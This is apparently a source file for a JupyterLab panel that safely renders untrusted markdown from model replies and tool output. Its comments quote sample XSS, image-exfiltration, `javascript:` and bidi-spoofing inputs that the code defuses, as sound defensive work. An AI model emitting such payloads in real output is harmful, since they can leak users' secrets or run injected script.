/**
 * Untrusted text on screen: the one place the panel turns text it did not write (model
 * replies, tool results, job names and logs, wiki pages) into anything richer than React
 * text. Markdown is parsed into data (`markdown/`) and shown as React elements, so:
 *
 * - raw HTML is never rendered: `<img src=x onerror=…>` shows as those characters;
 * - no image is ever loaded: an image is a link that shows its URL, so a reply cannot send
 *   data to another host by being displayed (`![x](https://host/?d=SECRET)`);
 * - a link is a link only for http, https and mailto URLs, and opens in a new tab with
 *   `rel="noopener noreferrer"`; any other URL (`javascript:`, `data:`, a relative path) is
 *   shown as text.
 *
 * Plain text that others wrote (job names, tool summaries, approval previews) goes through
 * {@link visibleText}, so control characters cannot disguise it.
 *
 * Betty's own charts (SVG the server draws, every text in it escaped there) show through
 * {@link ChartImage}: an `<img>` of a `data:` address, which runs no script and loads
 * nothing, so no markup of the chart enters the page.
 *
 * No module of the panel sets `innerHTML` or renders HTML strings; a test keeps it so.
 */
import { URLExt } from '@jupyterlab/coreutils';
import * as React from 'react';

import { highlightShellLine } from './highlight';
import { Block, parseMarkdown } from './markdown/blocks';
import { Inline, plainText } from './markdown/inlines';

/**
 * Characters that change what text looks like without being seen: C0/C1 controls (terminal
 * escapes) and bidirectional overrides (`train\u202egpj.exe` reads as `trainexe.jpg`).
 */
const INVISIBLE =
  /[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]/g;

/** `text` with invisible control characters written out (`\x1b`, `\u202e`); newlines, tabs kept. */
export function visibleText(text: string): string {
  return text.replace(INVISIBLE, char => {
    const code = char.charCodeAt(0);
    return code < 0x100
      ? `\\x${code.toString(16).padStart(2, '0')}`
      : `\\u${code.toString(16).padStart(4, '0')}`;
  });
}

/** The URL schemes a link may use. */
export const LINK_PROTOCOLS: readonly string[] = ['http:', 'https:', 'mailto:'];

/** Why a link is shown as text. */
const REFUSED_LINK = 'not a link: only http, https and mailto links open';

/** Languages whose code blocks are highlighted as shell scripts. */
const SHELL_LANGUAGES = new Set(['bash', 'sh', 'shell', 'zsh', 'sbatch', 'slurm']);

/** Text longer than this is shown as plain text: formatting it would hold the page up. */
export const MAX_MARKDOWN_CHARS = 200_000;

/** Emphasis nested deeper than this is shown as plain text, so no reply can exhaust the stack. */
const MAX_INLINE_DEPTH = 24;

/**
 * The URL a link may point at, as the browser would follow it; null for anything but an
 * absolute http, https or mailto URL. Parsing first means what is checked is what opens
 * (`java\tscript:`, ` javascript:` and entity-encoded schemes included).
 */
export function safeLinkUrl(url: string): string | null {
  let parsed: URL;
  try {
    parsed = new URL(url);
  } catch {
    return null;
  }
  return LINK_PROTOCOLS.includes(parsed.protocol) ? parsed.href : null;
}

/** While a reply streams, it is formatted again at most this often. */
const STREAMING_RENDER_MS = 150;

/** Props of {@link Markdown}. */
export interface IMarkdownProps {
  /** Markdown from outside Betty's code: a model's reply, a tool's result, a page. */
  text: string;
  /** True while the text still grows: it is formatted at most every {@link STREAMING_RENDER_MS}. */
  streaming?: boolean;
}

/** `text` shown as markdown, under the rules above. */
export function Markdown({ text: latest, streaming = false }: IMarkdownProps): JSX.Element {
  const text = useSpacedOut(latest, streaming);
  const long = text.length > MAX_MARKDOWN_CHARS;
  const blocks = React.useMemo(() => (long ? [] : parseMarkdown(text)), [text, long]);
  if (long) {
    return (
      <div className="betty-Markdown betty-Markdown-plain" data-testid="betty-markdown">
        {visibleText(text)}
      </div>
    );
  }
  return (
    <div className="betty-Markdown jp-RenderedHTMLCommon" data-testid="betty-markdown">
      {blocks.map((block, i) => (
        <BlockView key={i} block={block} tight={false} />
      ))}
    </div>
  );
}

/**
 * `text` as it was at most {@link STREAMING_RENDER_MS} ago while `streaming`, so a long reply
 * arriving word by word is not parsed again for every word; `text` itself once it is complete.
 */
function useSpacedOut(text: string, streaming: boolean): string {
  const [shown, setShown] = React.useState(text);
  const latest = React.useRef(text);
  latest.current = text;
  const timer = React.useRef<ReturnType<typeof setTimeout> | null>(null);
  React.useEffect(() => {
    if (streaming && timer.current === null) {
      timer.current = setTimeout(() => {
        timer.current = null;
        setShown(latest.current);
      }, STREAMING_RENDER_MS);
    }
  }, [text, streaming]);
  React.useEffect(
    () => () => {
      if (timer.current !== null) {
        clearTimeout(timer.current);
      }
    },
    []
  );
  return streaming ? shown : text;
}

/**
 * A chart Betty drew as SVG, shown as an image of a `data:` address; anything but one SVG element shows nothing.
 * Its text, frame and marks (drawn in `currentColor`) take the theme's text colour, which an image cannot read
 * by itself: it is written into the image.
 */
export function ChartImage(props: { svg: string; alt: string; testId: string }): JSX.Element | null {
  const { svg, alt, testId } = props;
  const colour = useThemeTextColour();
  if (!/^<svg[\s>]/.test(svg) || !svg.trimEnd().endsWith('</svg>')) {
    return null;
  }
  return (
    <img
      className="betty-Chart"
      data-testid={testId}
      alt={visibleText(alt)}
      src={`data:image/svg+xml;charset=utf-8,${encodeURIComponent(inThemeColour(svg, colour))}`}
    />
  );
}

/**
 * The theme's text colour ({@link themeTextColour}), read again whenever JupyterLab changes its theme (it marks
 * the page's body with the theme's name and lightness), so a chart drawn before the change follows it.
 */
export function useThemeTextColour(): string | null {
  const [colour, setColour] = React.useState(themeTextColour);
  React.useEffect(() => {
    const observer = new MutationObserver(() => setColour(themeTextColour()));
    observer.observe(document.body, {
      attributes: true,
      attributeFilter: ['data-jp-theme-name', 'data-jp-theme-light']
    });
    setColour(themeTextColour());
    return () => observer.disconnect();
  }, []);
  return colour;
}

/** The theme's text colour, when it is a plain colour value (else null). */
export function themeTextColour(): string | null {
  const colour = getComputedStyle(document.documentElement)
    .getPropertyValue('--jp-content-font-color1')
    .trim();
  return /^(#[0-9a-f]{3,8}|rgba?\([0-9.,\s%]+\)|[a-z]+)$/i.test(colour) ? colour : null;
}

/** `svg` (one SVG element) drawing its `currentColor` in `colour`; unchanged when there is no colour. */
export function inThemeColour(svg: string, colour: string | null): string {
  const open = svg.indexOf('>');
  if (colour === null || open < 0) {
    return svg;
  }
  return `${svg.slice(0, open + 1)}<style>svg{color:${colour} !important}</style>${svg.slice(open + 1)}`;
}

/** A link to `url` if it is a {@link safeLinkUrl}, else its content and URL as text. */
export function SafeLink(props: { url: string; children: React.ReactNode }): JSX.Element {
  const { url, children } = props;
  const href = safeLinkUrl(url);
  if (href === null) {
    return (
      <span className="betty-Markdown-refusedLink" title={REFUSED_LINK}>
        {children} ({visibleText(url)})
      </span>
    );
  }
  return (
    <a
      href={href}
      target="_blank"
      rel="noopener noreferrer"
      referrerPolicy="no-referrer"
      title={href}
    >
      {children}
    </a>
  );
}

/** A path on this Jupyter server that one of its own pages may link to: plain path characters only. */
const SERVER_PATH = /^[A-Za-z0-9_./-]+$/;

/**
 * A link to a page of this Jupyter server (`path` under `baseUrl`, as the server's own routes
 * are named), opened in a new tab; a path with anything but plain path characters is shown as text.
 */
export function ServerLink(props: {
  baseUrl: string;
  path: string;
  testId?: string;
  children: React.ReactNode;
}): JSX.Element {
  const { baseUrl, path, testId, children } = props;
  if (!SERVER_PATH.test(path) || path.includes('..') || path.startsWith('//')) {
    return <span data-testid={testId}>{children}</span>;
  }
  return (
    <a
      href={URLExt.join(baseUrl, path)}
      target="_blank"
      rel="noopener noreferrer"
      referrerPolicy="no-referrer"
      data-testid={testId}
    >
      {children}
    </a>
  );
}

function BlockView({ block, tight }: { block: Block; tight: boolean }): JSX.Element {
  switch (block.kind) {
    case 'paragraph':
      return tight ? <Inlines inlines={block.content} /> : <p>{inlines(block.content)}</p>;
    case 'heading':
      return React.createElement(HEADINGS[block.level - 1] ?? 'h6', null, inlines(block.content));
    case 'code':
      return <CodeBlock language={block.language} text={block.text} />;
    case 'quote':
      return (
        <blockquote>
          {block.blocks.map((inner, i) => (
            <BlockView key={i} block={inner} tight={false} />
          ))}
        </blockquote>
      );
    case 'list':
      return <ListView block={block} />;
    case 'table':
      return <TableView block={block} />;
    case 'rule':
      return <hr />;
  }
}

const HEADINGS = ['h1', 'h2', 'h3', 'h4', 'h5', 'h6'] as const;

function ListView({ block }: { block: Extract<Block, { kind: 'list' }> }): JSX.Element {
  const items = block.items.map((item, i) => (
    <li key={i}>
      {item.map((inner, j) => (
        <BlockView key={j} block={inner} tight={block.tight} />
      ))}
    </li>
  ));
  return block.ordered ? <ol start={block.start}>{items}</ol> : <ul>{items}</ul>;
}

function TableView({ block }: { block: Extract<Block, { kind: 'table' }> }): JSX.Element {
  const style = (column: number) => {
    const align = block.align[column];
    return align ? { textAlign: align } : undefined;
  };
  return (
    <table>
      <thead>
        <tr>
          {block.head.map((cell, i) => (
            <th key={i} style={style(i)}>
              {inlines(cell)}
            </th>
          ))}
        </tr>
      </thead>
      <tbody>
        {block.rows.map((row, i) => (
          <tr key={i}>
            {row.map((cell, j) => (
              <td key={j} style={style(j)}>
                {inlines(cell)}
              </td>
            ))}
          </tr>
        ))}
      </tbody>
    </table>
  );
}

function CodeBlock({ language, text }: { language: string; text: string }): JSX.Element {
  const shell = SHELL_LANGUAGES.has(language.toLowerCase());
  return (
    <pre className="betty-Markdown-code" data-language={language || undefined}>
      <code>
        {shell
          ? text.split('\n').map((line, i) => (
              <React.Fragment key={i}>
                {i > 0 && '\n'}
                {highlightShellLine(line).map((token, j) => (
                  <span key={j} className={token.kind ? `betty-hl-${token.kind}` : undefined}>
                    {visibleText(token.text)}
                  </span>
                ))}
              </React.Fragment>
            ))
          : visibleText(text)}
      </code>
    </pre>
  );
}

function Inlines({ inlines: content }: { inlines: Inline[] }): JSX.Element {
  return <>{inlines(content)}</>;
}

function inlines(content: readonly Inline[], depth = 0, inLink = false): React.ReactNode[] {
  if (depth > MAX_INLINE_DEPTH) {
    return [plainText(content)];
  }
  return content.map((inline, i) => inlineView(inline, i, depth, inLink));
}

function inlineView(inline: Inline, key: number, depth: number, inLink: boolean): React.ReactNode {
  switch (inline.kind) {
    case 'text':
      return visibleText(inline.text);
    case 'code':
      return <code key={key}>{visibleText(inline.text)}</code>;
    case 'break':
      return <br key={key} />;
    case 'emphasis':
      return <em key={key}>{inlines(inline.children, depth + 1, inLink)}</em>;
    case 'strong':
      return <strong key={key}>{inlines(inline.children, depth + 1, inLink)}</strong>;
    case 'strike':
      return <del key={key}>{inlines(inline.children, depth + 1, inLink)}</del>;
    case 'link':
      return inLink ? (
        <React.Fragment key={key}>{inlines(inline.children, depth + 1, true)}</React.Fragment>
      ) : (
        <SafeLink key={key} url={inline.url}>
          {inlines(inline.children, depth + 1, true)}
        </SafeLink>
      );
    case 'image':
      return <ImageAsLink key={key} url={inline.url} alt={inline.alt} inLink={inLink} />;
  }
}

/** An image is never loaded: it is shown as a link that names it and shows its URL. */
function ImageAsLink(props: { url: string; alt: string; inLink: boolean }): JSX.Element {
  const { url, alt, inLink } = props;
  const label = `[image${alt ? `: ${visibleText(alt)}` : ''}] `;
  const href = inLink ? null : safeLinkUrl(url);
  return (
    <span
      className="betty-Markdown-image"
      title="image not loaded"
      data-testid="betty-markdown-image"
    >
      {label}
      {href === null ? visibleText(url) : <SafeLink url={href}>{visibleText(url)}</SafeLink>}
    </span>
  );
}

/**
 * Hand `blob`, made by the panel itself, to the browser as a file to save under `name`.
 *
 * The link's address is the blob's own `blob:` URL, never one from outside; the name keeps
 * letters, digits, `.`, `_` and `-` only.
 */
export function saveBlob(blob: Blob, name: string): void {
  const url = URL.createObjectURL(blob);
  const link = document.createElement('a');
  link.href = url;
  link.download = name.replace(/[^A-Za-z0-9._-]/g, '_');
  document.body.appendChild(link);
  link.click();
  link.remove();
  window.setTimeout(() => URL.revokeObjectURL(url), 60_000);
}
